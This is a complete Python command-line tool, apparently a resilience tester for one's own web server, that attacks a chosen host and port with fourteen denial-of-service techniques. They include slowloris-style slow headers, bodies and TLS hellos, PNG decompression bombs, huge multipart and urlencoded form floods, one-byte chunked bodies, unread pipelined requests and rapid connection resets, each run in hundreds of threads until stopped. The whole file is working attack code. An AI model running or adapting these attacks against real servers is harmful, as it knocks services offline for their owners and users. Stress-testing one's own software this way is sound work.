"""A machine that wants to keep a server from answering others, in the ways of WAYS, until it is stopped.

    python attackers.py WAY HOST PORT PAGE [FROM [https]]

PAGE is the path of a page that the server has, FROM the address that the machine takes, 127.0.0.1 if no other is given.
With "https" it speaks TLS, and trusts whatever certificate it is shown.
It prints "attacking" once it has begun. It is for a server of one's own on this machine.
"""

import ssl
import sys
import time
import zlib
from collections.abc import Callable
from contextlib import suppress
from functools import cache
from io import BytesIO
from socket import SO_LINGER, SO_RCVBUF, SOL_SOCKET, create_connection, socket
from struct import pack
from threading import Thread

MANY, SOME = 300, 8
BORDER = "a-border-no-photo-holds"
START = f'--{BORDER}\r\nContent-Disposition: form-data; name="photo"; filename="p"\r\n\r\n'.encode()
END = f"\r\n--{BORDER}--\r\n".encode()
LONG = 20_000_000
PAUSE = 0.2


class Target:
    """Where the server is, a page of its, and from where it is attacked."""

    def __init__(self, place: tuple[str, int], page: str, source: str, *, tls: bool) -> None:
        self.page = page
        self._place = place
        self._source = source
        self._context = ssl._create_unverified_context() if tls else None  # noqa: S323, SLF001  # one's own server

    def reached(self) -> socket:
        """A connection. Raises OSError where it is refused, which an attacker expects."""
        connection = self.called()
        return self._context.wrap_socket(connection) if self._context else connection

    def called(self) -> socket:
        """A connection on which nothing was said yet, not even what TLS begins with. Raises OSError."""
        return create_connection(self._place, timeout=30, source_address=(self._source, 0))

    def head(self, method: str, path: str, *lines: str) -> bytes:
        """The head of a request."""
        return "\r\n".join((f"{method} {path} HTTP/1.1", f"Host: {self._place[0]}", *lines, "", "")).encode()

    def form(self, data: bytes, length: int = 0) -> bytes:
        """A request that sends a photo: the whole, or the beginning of one of so many bytes."""
        body = START + data + (b"" if length else END)
        kind = f"Content-Type: multipart/form-data; boundary={BORDER}"
        return self.head("POST", "/photo", kind, f"Content-Length: {length or len(body)}") + body


def idle(target: Target) -> None:
    """A connection on which nothing is asked."""
    with target.reached() as connection:
        connection.recv(1000)


def slow_hello(target: Target) -> None:
    """What TLS begins with (RFC 8446, 4.1.2), of which a byte comes every second."""
    with target.called() as connection:
        for byte in b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(500):
            connection.sendall(bytes([byte]))
            time.sleep(1)


def slow_head(target: Target) -> None:
    """A head of which a byte comes every second."""
    _slowly(target, target.head("GET", target.page)[:20], b"x")


def slow_body(target: Target) -> None:
    """A photo of 20 MB of which a byte comes every second."""
    _slowly(target, target.form(b"", LONG), b"\0")


def slow_start(target: Target) -> None:
    """A photo of which 2 MB come at once, and then a byte every second."""
    _slowly(target, target.form(b"\0" * 2_000_000, LONG), b"\0")


def slow_photo(target: Target) -> None:
    """A picture of 5 kB with nothing but corners of symbols in it, which takes long to look at."""
    _send(target, target.form(_corners()))


def long_photo(target: Target) -> None:
    """A picture of 1 × 64,000,000 pixels in 60 kB."""
    _send(target, target.form(_line()))


def large_photo(target: Target) -> None:
    """A picture of 4000 × 4000 pixels in colours, with transparency."""
    _send(target, target.form(_square()))


def large_form(target: Target) -> None:
    """A form of 24 MB of small fields."""
    kind = "Content-Type: application/x-www-form-urlencoded"
    body = b"a=1&" * 6_000_000
    _send(target, target.head("POST", "/photo", kind, f"Content-Length: {len(body)}") + body)


def many_parts(target: Target) -> None:
    """A photo's form of 20 MB of small fields."""
    _send(
        target, target.form(f'\r\n--{BORDER}\r\nContent-Disposition: form-data; name="a"\r\n\r\n1'.encode() * 230_000)
    )


def small_chunks(target: Target) -> None:
    """A body of unknown length that comes in chunks of one byte."""
    kind = f"Content-Type: multipart/form-data; boundary={BORDER}"
    _send(target, target.head("POST", "/photo", kind, "Transfer-Encoding: chunked") + b"1\r\nx\r\n" * 3_000_000)


def unread(target: Target) -> None:
    """Pages asked for one after the other, and no answer fetched."""
    with target.reached() as connection:
        connection.setsockopt(SOL_SOCKET, SO_RCVBUF, 1)  # the least there is
        while True:
            connection.sendall(target.head("GET", target.page))
            time.sleep(PAUSE)


def hasty(target: Target) -> None:
    """Pages asked for, and the connections broken off at once, as fast as it goes."""
    for _ in range(100):
        with target.reached() as connection:
            connection.sendall(target.head("GET", target.page))
            connection.setsockopt(SOL_SOCKET, SO_LINGER, pack("ii", 1, 0))


def asking(target: Target) -> None:
    """Pages asked for as fast as they come."""
    _send(target, target.head("GET", target.page, "Connection: close"))


WAYS: dict[str, tuple[Callable[[Target], None], int]] = {
    "idle": (idle, MANY),
    "slow-hello": (slow_hello, MANY),
    "slow-head": (slow_head, MANY),
    "slow-body": (slow_body, MANY),
    "slow-start": (slow_start, SOME),
    "slow-photo": (slow_photo, SOME),
    "long-photo": (long_photo, SOME),
    "large-photo": (large_photo, SOME),
    "large-form": (large_form, SOME),
    "many-parts": (many_parts, SOME),
    "small-chunks": (small_chunks, SOME),
    "unread": (unread, MANY),
    "hasty": (hasty, SOME),
    "asking": (asking, 2 * SOME),
}


def _slowly(target: Target, first: bytes, then: bytes) -> None:
    with target.reached() as connection:
        connection.sendall(first)
        while True:
            time.sleep(1)
            connection.sendall(then)


def _send(target: Target, request: bytes) -> None:
    with target.reached() as connection:
        connection.sendall(request)
        while connection.recv(65536):
            pass


def _png(width: int, height: int, row: bytes, kind: tuple[int, int] = (1, 0)) -> bytes:
    """A picture of equal rows, each with its filter byte before it; `kind` is depth and colour type (ISO 15948)."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return pack(">I", len(data)) + name + data + pack(">I", zlib.crc32(name + data))

    packer = zlib.compressobj(9)
    rows = [packer.compress(row * (height // 1000)) for _ in range(1000)]
    head = pack(">IIBBBBB", width, height, *kind, 0, 0, 0)
    packed = b"".join([*rows, packer.flush()])
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


@cache
def _line() -> bytes:
    return _png(1, 64_000_000, b"\0\0")


@cache
def _square() -> bytes:
    return _png(4000, 4000, b"\0" + b"\7" * 16_000, (8, 6))


@cache
def _corners() -> bytes:
    from PIL import Image

    corner = Image.new("1", (9, 9), 1)
    for edge, colour in ((1, 0), (2, 1), (3, 0)):
        corner.paste(colour, (edge, edge, 9 - edge, 9 - edge))
    wall = Image.new("1", (2340, 2340))
    for at in range(260 * 260):
        wall.paste(corner, (at % 260 * 9, at // 260 * 9))
    file = BytesIO()
    wall.save(file, "PNG")
    return file.getvalue()


def _again_and_again(way: Callable[[Target], None], target: Target) -> None:
    while True:
        with suppress(OSError):  # refused, or closed in the middle
            way(target)
        time.sleep(PAUSE)


def main() -> None:
    """Attack until stopped."""
    name, host, port, page, *rest = sys.argv[1:]
    way, times = WAYS[name]
    target = Target((host, int(port)), page, rest[0] if rest else "127.0.0.1", tls="https" in rest)
    for _ in range(times):
        Thread(target=_again_and_again, args=(way, target), daemon=True).start()
    time.sleep(1)
    print("attacking", flush=True)
    time.sleep(3600)


if __name__ == "__main__":
    main()
